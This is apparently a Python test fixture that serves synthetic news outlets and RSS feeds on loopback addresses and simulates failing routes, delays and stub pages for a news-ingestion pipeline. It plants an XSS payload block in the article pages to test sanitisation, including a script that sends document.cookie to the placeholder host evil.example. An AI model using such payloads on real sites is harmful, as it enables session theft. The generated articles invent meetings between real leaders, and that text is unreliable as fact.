"""Synthetic news outlets on loopback addresses, and the ways their routes fail."""

from __future__ import annotations

import random
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from html import escape
from pathlib import Path
from urllib.parse import urlsplit

import yaml

from pipeline.bench.loopback import Handler, LoopbackServer, RecordingHandler, static

LEADERS = ["Kassym-Jomart Tokayev", "Shavkat Mirziyoyev", "Sadyr Japarov", "Emomali Rahmon",
           "Serdar Berdimuhamedov"]
CAPITALS = ["Astana", "Tashkent", "Bishkek", "Dushanbe", "Ashgabat"]
SUBJECTS = ["water sharing on the Syr Darya", "the Middle Corridor rail link", "a new gas pipeline",
            "border delimitation", "trade turnover and investment", "regional security cooperation"]
# Hostile markup planted inside otherwise good articles: none of it may reach a stored field.
PLANTED_MARKUP = (
    '<script>document.location="http://evil.example/?c="+document.cookie</script>'
    '<p onclick="alert(1)" onmouseover="alert(2)">Read the <a href="javascript:alert(3)">statement</a> '
    'and <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">annex</a>.</p>'
    '<svg onload="alert(5)"><script>alert(6)</script></svg><iframe src="javascript:alert(7)"></iframe>'
)


@dataclass(frozen=True)
class PublishedArticle:
    url: str
    title: str
    paragraphs: tuple[str, ...]
    feed: str
    stub: bool = False  # a page with too little text: expected in quarantine, not in the index


def synthetic_paragraphs(rng: random.Random, count: int) -> tuple[str, ...]:
    out = []
    for _ in range(count):
        leader, other = rng.sample(LEADERS, 2)
        capital, subject = rng.choice(CAPITALS), rng.choice(SUBJECTS)
        out.append(
            f"{leader} met {other} in {capital} on {rng.randint(1, 28)} November to discuss {subject}. "
            f"The delegations signed {rng.randint(2, 19)} documents worth {rng.randint(10, 900)} million "
            f"dollars, officials said, and agreed to meet again before the end of the year in "
            f"{rng.choice(CAPITALS)}; reference {rng.getrandbits(40):x}."
        )
    return tuple(out)


def article_page(article: PublishedArticle, outlet: str) -> bytes:
    body = "".join(f"<p>{escape(p)}</p>" for p in article.paragraphs)
    if not article.stub:
        body = body.replace("</p>", "</p>" + PLANTED_MARKUP, 1)
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{escape(article.title)}</title>'
        f'<link rel="canonical" href="{escape(article.url)}">'
        f'<meta property="og:title" content="{escape(article.title)}"></head><body>'
        f'<header><nav><a href="/">{escape(outlet)}</a> | <a href="/world">World</a></nav></header>'
        f"<main><article><h1>{escape(article.title)}</h1>{body}</article></main>"
        f"<footer>© {escape(outlet)}. All rights reserved.</footer></body></html>"
    ).encode()


def _feed(name: str, home: str, items: list[PublishedArticle], published: datetime) -> bytes:
    entries = "".join(
        f"<item><title>{escape(item.title)}</title><link>{escape(item.url)}</link>"
        f'<guid isPermaLink="true">{escape(item.url)}</guid>'
        f"<pubDate>{format_datetime(published - timedelta(minutes=i))}</pubDate></item>"
        for i, item in enumerate(items)
    )
    return (
        f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>{escape(name)}</title>'
        f"<link>{escape(home)}</link><description>Synthetic outlet</description>{entries}</channel></rss>"
    ).encode()


def flaky(good: Handler, *failures: Handler) -> Handler:
    """Answers with each failure in turn, then always with `good`: a fault the next try gets past."""
    pending = list(failures)
    lock = threading.Lock()

    def handle(req: RecordingHandler) -> None:
        with lock:
            failure = pending.pop(0) if pending else None
        with _client_may_leave():
            (failure or good)(req)

    return handle


@contextmanager
def _client_may_leave() -> Iterator[None]:
    """A client that timed out or was killed is part of the scenario, not a server error."""
    try:
        yield
    except (BrokenPipeError, ConnectionResetError):
        pass


class ChaosSites:
    """`feeds` RSS outlets with `articles` pages each, spread over `hosts` loopback addresses."""

    def __init__(self, feeds: int, articles: int, hosts: int = 1, stubs: int = 0, seed: int = 7,
                 page_delay: float = 0.0):
        self.servers = [LoopbackServer(host=f"127.0.0.{i + 1}") for i in range(hosts)]
        self.published: list[PublishedArticle] = []
        self.feed_urls: dict[str, str] = {}
        self._feeds: list[tuple[LoopbackServer, str, str, list[PublishedArticle]]] = []
        self._pages: dict[str, bytes] = {}
        rng = random.Random(seed)
        now = datetime.now(UTC).replace(microsecond=0)
        for number in range(feeds):
            server = self.servers[number % hosts]
            name = f"Outlet {number:03d}"
            prefix = f"/outlet-{number:03d}"
            items = []
            for position in range(articles):
                stub = position < stubs
                url = server.url(f"{prefix}/news/{position:04d}-{rng.getrandbits(32):08x}.html")
                title = f"{name}: {rng.choice(LEADERS)} on {rng.choice(SUBJECTS)} ({position})"
                text = ("Subscribe to read.",) if stub else synthetic_paragraphs(rng, 4)
                items.append(PublishedArticle(url, title, text, name, stub))
            for item in items:
                path = urlsplit(item.url).path
                self._pages[item.url] = article_page(item, name)
                page = static(self._pages[item.url], "text/html; charset=utf-8")
                server.routes[path] = _delayed(page, page_delay) if page_delay else page
            self.feed_urls[name] = server.url(f"{prefix}/feed.xml")
            self._feeds.append((server, prefix, name, items))
        self._now = now
        self.reveal(articles)
        for server in self.servers:
            server.routes["/robots.txt"] = static(b"User-agent: *\nAllow: /\n", "text/plain")

    def reveal(self, count: int) -> None:
        """Each feed lists its first `count` articles (more appear as count grows): `published` follows."""
        self.published = []
        for server, prefix, name, items in self._feeds:
            shown = items[:count]
            server.routes[f"{prefix}/feed.xml"] = static(_feed(name, server.url(prefix), shown, self._now))
            self.published += shown

    def page(self, url: str) -> bytes:
        return self._pages[url]

    def add_unlisted_page(self, feed: int, body: bytes) -> str:
        """List one more page after a feed's articles, one that is not among `published`: its URL."""
        server, prefix, name, items = self._feeds[feed]
        url = server.url(f"{prefix}/news/extra-{len(self._pages):04d}.html")
        self._pages[url] = body
        server.routes[urlsplit(url).path] = static(body, "text/html; charset=utf-8")
        extra = PublishedArticle(url, "An extra page", (), name)
        server.routes[f"{prefix}/feed.xml"] = static(_feed(name, server.url(prefix), [*items, extra], self._now))
        return url

    def break_route(self, url: str, *failures: Handler) -> None:
        """Make the next requests for `url` fail in the given ways, then succeed again."""
        path = urlsplit(url).path
        for server in self.servers:
            if url.startswith(server.base_url):
                server.routes[path] = flaky(server.routes[path], *failures)

    def page_requests(self) -> int:
        return sum(len([r for r in s.requests if "/news/" in r.path]) for s in self.servers)

    def write_feeds_config(self, path: Path, **http: float) -> Path:
        config = {
            "feeds": [{"name": name, "url": url, "type": "rss", "language": "en", "country": "KZ"}
                      for name, url in self.feed_urls.items()],
            "allow_private_hosts": ["127.0.0.0/8"],
            "http": {"min_host_delay": 0.0, "connect_timeout": 2.0, "read_timeout": 2.0, "deadline": 10.0,
                     **http},
        }
        path.write_text(yaml.safe_dump(config, allow_unicode=True))
        return path

    def __enter__(self) -> ChaosSites:
        for server in self.servers:
            server.__enter__()
        return self

    def __exit__(self, *exc) -> None:
        for server in self.servers:
            server.__exit__(*exc)


def _delayed(handler: Handler, seconds: float) -> Handler:
    def handle(req: RecordingHandler) -> None:
        time.sleep(seconds)
        with _client_may_leave():
            handler(req)

    return handle
